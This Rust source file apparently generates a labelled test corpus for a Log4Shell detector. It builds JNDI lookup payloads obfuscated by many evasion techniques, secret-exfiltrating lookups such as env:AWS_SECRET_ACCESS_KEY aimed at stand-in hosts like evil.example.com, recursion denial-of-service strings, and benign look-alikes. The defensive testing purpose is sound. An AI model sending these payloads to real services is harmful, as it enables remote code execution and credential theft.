//! Builds the payload of one corpus line: an attack obfuscated by one family's technique, with
//! what the hunter must report, or a benign look-alike.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::{Expected, Family, Rng};
use crate::hunt::{Exfiltration, HitClass, JndiProtocol};

/// Schemes the corpus uses; all parse as `scheme://host[:port]/path`.
const SCHEMES: &[&str] = &[
    "ldap", "ldaps", "rmi", "dns", "iiop", "nds", "nis", "http", "https",
];

struct Target {
    scheme: &'static str,
    host: String,
    port: Option<u16>,
    path: String,
}

impl Target {
    fn random(rng: &mut Rng) -> Self {
        let scheme = *rng.pick(SCHEMES);
        let host = if rng.one_in(4) {
            format!(
                "{}.{}.{}.{}",
                1 + rng.below(222),
                rng.below(256),
                rng.below(256),
                1 + rng.below(254)
            )
        } else {
            let len = 3 + rng.below(8);
            let label = word(rng, len);
            format!(
                "{label}.{}",
                rng.pick(&[
                    "example",
                    "oast.example",
                    "evil.example.com",
                    "interact.example"
                ])
            )
        };
        let port = (!rng.one_in(3)).then(|| *rng.pick(&[1389, 1099, 53, 8080, 443, 389, 12345]));
        let path = rng
            .pick(&[
                "a",
                "Exploit",
                "Basic/Command/Base64/ZWNobw==",
                "o=tomcat",
                "x1y2",
            ])
            .to_string();
        Self {
            scheme,
            host,
            port,
            path,
        }
    }

    /// `scheme://host[:port]/path`, with `host` replaced by `host_text`.
    fn url(&self, scheme_text: &str, host_text: &str) -> String {
        let port = self.port.map(|p| format!(":{p}")).unwrap_or_default();
        format!("{scheme_text}://{host_text}{port}/{}", self.path)
    }

    fn expected(&self) -> Expected {
        Expected {
            class: HitClass::Jndi,
            protocol: Some(JndiProtocol::from_scheme(self.scheme)),
            host: Some(self.host.clone()),
            port: self.port,
            exfiltration: None,
            source_ip: None,
        }
    }
}

fn word(rng: &mut Rng, len: usize) -> String {
    (0..len)
        .map(|_| *rng.pick(b"abcdefghijklmnopqrstuvwxyz0123456789") as char)
        .collect()
}

fn random_case(rng: &mut Rng, s: &str) -> String {
    s.chars()
        .map(|c| {
            if rng.one_in(2) {
                c.to_ascii_uppercase()
            } else {
                c
            }
        })
        .collect()
}

/// Spells `s` letter by letter with `spell`, leaving about a third of the letters plain.
fn spell_with(rng: &mut Rng, s: &str, mut spell: impl FnMut(&mut Rng, char) -> String) -> String {
    let forced = rng.below(s.chars().count());
    s.chars()
        .enumerate()
        .map(|(i, c)| {
            if i == forced || !rng.one_in(3) {
                spell(rng, c)
            } else {
                c.to_string()
            }
        })
        .collect()
}

fn lower_upper(rng: &mut Rng, c: char) -> String {
    if rng.one_in(2) {
        format!("${{lower:{}}}", c.to_ascii_uppercase())
    } else {
        format!("${{upper:{c}}}")
    }
}

fn missing_name(rng: &mut Rng) -> String {
    let len = 2 + rng.below(6);
    let name = word(rng, len);
    format!(
        "{}:{name}",
        rng.pick(&["env", "sys", "k8s", "sd", "any", "ctx", "main", "bundle"])
    )
}

/// One layer of a nest that evaluates to `inner`.
fn wrap(rng: &mut Rng, inner: &str) -> String {
    match rng.below(5) {
        0 => format!("${{lower:{inner}}}"),
        1 => format!("${{upper:{inner}}}"),
        2 => format!("${{::-{inner}}}"),
        3 => format!("${{{}:-{inner}}}", missing_name(rng)),
        _ => format!("${{date:'{inner}'}}"),
    }
}

/// Rewrites chosen characters of `s` with `encode`.
fn encode_chars(s: &str, chars: &str, encode: impl Fn(char) -> String) -> String {
    s.chars()
        .map(|c| {
            if chars.contains(c) {
                encode(c)
            } else {
                c.to_string()
            }
        })
        .collect()
}

fn percent(s: &str, chars: &str) -> String {
    encode_chars(s, chars, |c| format!("%{:02X}", c as u32))
}

/// Builds an attack of `family` and what must be reported for it.
pub(super) fn attack(rng: &mut Rng, family: Family) -> (String, Expected) {
    let target = Target::random(rng);
    let mut expected = target.expected();
    let plain = format!(
        "${{{}:{}}}",
        random_case(rng, "jndi"),
        target.url(target.scheme, &target.host)
    );
    let spelled = |rng: &mut Rng, spell: &mut dyn FnMut(&mut Rng, char) -> String| {
        let prefix = spell_with(rng, "jndi", &mut *spell);
        let scheme = spell_with(rng, target.scheme, &mut *spell);
        format!("${{{prefix}:{}}}", target.url(&scheme, &target.host))
    };
    let payload = match family {
        Family::Plain => plain,
        Family::LowerUpper => spelled(rng, &mut lower_upper),
        Family::DefaultValue => spelled(rng, &mut |rng, c| {
            if rng.one_in(2) {
                format!("${{::-{c}}}")
            } else {
                format!("${{:-{c}}}")
            }
        }),
        Family::EnvDefault => spelled(rng, &mut |rng, c| {
            format!("${{{}:-{c}}}", missing_name(rng))
        }),
        Family::Date => spelled(rng, &mut |_, c| format!("${{date:'{c}'}}")),
        Family::Base64 => {
            if rng.one_in(2) {
                format!("${{base64:{}}}", STANDARD.encode(&plain))
            } else {
                format!(
                    "${{${{base64:{}}}:{}}}",
                    STANDARD.encode("jndi"),
                    target.url(target.scheme, &target.host)
                )
            }
        }
        Family::UnicodeCase => {
            let scheme = target.scheme.replace('s', "${upper:\u{17F}}");
            let prefix = format!("{}${{upper:\u{131}}}", random_case(rng, "jnd"));
            format!("${{{prefix}:{}}}", target.url(&scheme, &target.host))
        }
        Family::UrlEncoded1 => percent(&plain, "${}:/"),
        Family::UrlEncoded2 => percent(&percent(&plain, "${}:/"), "%"),
        Family::UrlEncoded3 => percent(&percent(&percent(&plain, "${}:/"), "%"), "%"),
        Family::UrlPartial => percent(&plain, "${}"),
        Family::UnicodeEscape => encode_chars(&plain, "${}jJ", |c| format!("\\u{:04x}", c as u32)),
        Family::HexEscape => encode_chars(&plain, "${}:", |c| format!("\\x{:02x}", c as u32)),
        Family::OctalEscape => encode_chars(&plain, "${}", |c| format!("\\{:03o}", c as u32)),
        Family::HtmlEntities => {
            let forms: [&[&str]; 3] = [
                &["&#36;", "&#x24;", "&dollar;", "&#036;"],
                &["&#123;", "&lbrace;", "&#x7B;", "&lcub;"],
                &["&#125;", "&rbrace;", "&rcub;"],
            ];
            let mut out = String::new();
            for c in plain.chars() {
                match c {
                    '$' => out.push_str(rng.pick::<&str>(forms[0])),
                    '{' => out.push_str(rng.pick::<&str>(forms[1])),
                    '}' => out.push_str(rng.pick::<&str>(forms[2])),
                    ':' if rng.one_in(2) => out.push_str("&colon;"),
                    _ => out.push(c),
                }
            }
            out
        }
        Family::JsonEscapes => encode_chars(&plain, "${}:/", |c| match c {
            '/' => "\\/".to_string(),
            _ => format!("\\u{:04X}", c as u32),
        }),
        Family::Nested => spelled(rng, &mut |rng, c| {
            let mut text = c.to_string();
            for _ in 0..1 + rng.below(8) {
                text = wrap(rng, &text);
            }
            text
        }),
        Family::Exfiltration => {
            let (lookup, key) = *rng.pick(&[
                ("env", "AWS_SECRET_ACCESS_KEY"),
                ("env", "USER"),
                ("sys", "user.name"),
                ("sys", "java.version"),
                ("java", "version"),
                ("hostName", ""),
            ]);
            let leak = Exfiltration {
                lookup: lookup.to_string(),
                key: key.to_string(),
            };
            let host = format!("{leak}.{}", target.host);
            expected.host = Some(host.clone());
            expected.exfiltration = Some(leak);
            format!(
                "${{{}:{}}}",
                random_case(rng, "jndi"),
                target.url(target.scheme, &host)
            )
        }
        Family::StandaloneExfiltration => {
            let leak = Exfiltration {
                lookup: "env".into(),
                key: word(rng, 6).to_uppercase(),
            };
            expected = Expected {
                class: HitClass::Exfiltration,
                protocol: None,
                host: None,
                port: None,
                exfiltration: Some(leak.clone()),
                source_ip: None,
            };
            // A lookup prefixed to an IP address is no DNS name; stand-alone leaks need a domain.
            let domain = if target.host.ends_with(|c: char| c.is_ascii_digit()) {
                "oast.example"
            } else {
                &target.host
            };
            format!("{leak}.{domain}")
        }
        Family::RecursionDos => {
            expected = Expected {
                class: HitClass::RecursionDos,
                protocol: None,
                host: None,
                port: None,
                exfiltration: None,
                source_ip: None,
            };
            let c = *rng.pick(&['j', 'x', 'a']);
            match rng.below(3) {
                0 => format!("${{${{::-${{::-$${{::-{c}}}}}}}}}"),
                1 => format!("${{{}:-${{::-${{::-$${{::-{c}}}}}}}}}", missing_name(rng)),
                _ => {
                    let depth = 60 + rng.below(100);
                    format!("{}{c}{}", "${".repeat(depth), "}".repeat(depth))
                }
            }
        }
        Family::PostExploitation => {
            expected.class = HitClass::PostExploitation;
            match rng.below(3) {
                0 => format!(
                    "WARN [main] Error looking up JNDI resource [{}]. javax.naming.CommunicationException",
                    target.url(target.scheme, &target.host)
                ),
                1 => {
                    expected = Expected {
                        protocol: None,
                        host: None,
                        port: None,
                        ..expected
                    };
                    "\tat com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1085)".to_string()
                }
                _ => {
                    expected = Expected {
                        protocol: None,
                        host: None,
                        port: None,
                        ..expected
                    };
                    format!("Reference Class Name: {}", target.path)
                }
            }
        }
        _ => unreachable!("benign families are built by `benign`"),
    };
    (payload, expected)
}

/// Builds a benign look-alike of `family`.
pub(super) fn benign(rng: &mut Rng, family: Family) -> String {
    let pick = |rng: &mut Rng, options: &[&str]| rng.pick(options).to_string();
    match family {
        Family::SpringProperty => pick(
            rng,
            &[
                "Tomcat started on port(s): ${server.port} (http) with context path '${server.servlet.context-path}'",
                "Could not resolve placeholder 'app.url' in value \"${app.url}\"",
                "datasource url ${spring.datasource.url:jdbc:h2:mem:test}",
                "render `Hello ${user.name}, you have ${count} messages`",
            ],
        ),
        Family::ShellVariable => pick(
            rng,
            &[
                "sudo: deploy : COMMAND=/bin/sh -c echo ${HOME} ${PATH}",
                "run.sh: line 12: ${USER:-root}: unbound variable",
                "export JAVA_OPTS=\"${JAVA_OPTS} -Xmx2g\"",
            ],
        ),
        Family::MavenProperty => pick(
            rng,
            &[
                "[INFO] Building app ${project.version}",
                "[WARNING] 'version' contains an expression but should be a constant: ${revision}${changelist}",
                "copying to ${project.build.directory}/classes",
            ],
        ),
        Family::DebconfVariable => pick(
            rng,
            &[
                "debconf: template ${REMOVED_DEVICES} will be removed",
                "Description: ${DISTRO} installer for ${ARCH}",
            ],
        ),
        Family::Price => pick(
            rng,
            &[
                "Order total $12.99, discount $3",
                "cart=US$ 40 and $$ sale",
                "cost: $",
            ],
        ),
        Family::EncodedPrice => pick(
            rng,
            &[
                "/search?q=%2410%20off",
                "/p?price=%24%2099",
                "/a?x=%25%32%34",
            ],
        ),
        Family::JndiMention => pick(
            rng,
            &[
                "Looked up data source java:comp/env/jdbc/app via JNDI",
                "JNDI name for queue is jms/orders",
            ],
        ),
        _ => unreachable!("attack families are built by `attack`"),
    }
}
